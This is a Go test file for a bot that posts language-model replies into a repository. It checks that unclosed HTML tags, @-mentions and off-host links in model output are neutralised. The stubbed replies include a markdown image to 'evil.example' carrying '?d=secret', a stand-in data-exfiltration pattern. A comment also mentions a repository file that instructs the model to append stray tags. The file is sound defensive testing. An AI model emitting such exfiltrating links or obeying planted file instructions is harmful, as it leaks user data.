package cli

import (
	"strings"
	"testing"

	"github.com/rtgit/rtgit/ai/aitest"
)

// TestActionUnclosedHTMLInADraftBlocksNothing: a model reply cut off
// inside a <pre> (or told by a repository file to end every answer with
// <textarea>) would swallow the answer's closing marker. The step still
// opens, with the tag shown as text, and the next C still works.
func TestActionUnclosedHTMLInADraftBlocksNothing(t *testing.T) {
	h := newHarness(t)
	srv := stubModel(t, h)
	srv.Reset()
	// The draft is cut off inside a <pre>; every other reply opens a
	// <textarea> it never closes.
	srv.On("Draft the answer", aitest.Say("Bookkeepers at customer firms reconcile invoices against bank statements every month and today must open each PDF by hand.\n\n<pre>\nstep 1: open the PDF"))
	srv.Default(aitest.Say("<textarea>\nNoted."))

	_, out := h.comment(alice, "/rtgit skip")
	answer := h.originFile("docs/requirements/csv-export/answers/01-01-business-context.md")
	mustContain(t, "the opened answer file", answer, "Bookkeepers at customer firms reconcile invoices", "&lt;pre>", "<!-- rtgit:end suggestion id=")
	if strings.Contains(answer, "\n<pre>") {
		t.Errorf("the answer file holds a live <pre> block:\n%s", answer)
	}
	replies := h.replies()
	if last := replies[len(replies)-1]; strings.Contains(last, "I couldn't do that") {
		t.Fatalf("the step did not open:\n%s\n%s", last, out)
	}
	_, out = h.comment(alice, "Month-end close is when this hurts most.")
	replies = h.replies()
	if last := replies[len(replies)-1]; strings.Contains(last, "I couldn't do that") || strings.Contains(last, "\n<textarea>") {
		t.Fatalf("feedback after the draft failed or echoed live HTML:\n%s\n%s", last, out)
	}
}

// TestActionModelTextIsQuieted: what the model writes is posted with the
// quieting a quoted comment gets: no mention pings, no image loads, and
// a link off the repository's host is shown as text.
func TestActionModelTextIsQuieted(t *testing.T) {
	h := newHarness(t)
	srv := stubModel(t, h)
	srv.Reset()
	srv.On("It is feedback.", aitest.Say("Noted, @acme/security will want this. ![chart](https://evil.example/p.png?d=secret) "+
		"Details: [the log](https://evil.example/l?q=1), and [the PR]("+h.api.URL+"/acme/invoices/pull/7)."))
	srv.Default(aitest.Say("Bookkeepers at customer firms reconcile invoices by hand every month; cc @bob, see ![x](https://evil.example/s.png)."))
	h.comment(alice, "/rtgit skip")
	h.comment(alice, "Month-end close is when this hurts most.")
	replies := h.replies()
	last := replies[len(replies)-1]
	mustContain(t, "the reply", last, "@\u200dacme/security", "chart", "the log (`https://evil.example/l?q=1`)",
		"[the PR]("+h.api.URL+"/acme/invoices/pull/7)")
	answer := h.originFile("docs/requirements/csv-export/answers/01-01-business-context.md")
	for what, text := range map[string]string{"the reply": last, "the answer file": answer} {
		for _, bad := range []string{"@acme/security", "@bob", "](https://evil.example", "evil.example/p.png", "evil.example/s.png"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s holds %q:\n%s", what, bad, text)
			}
		}
	}
}
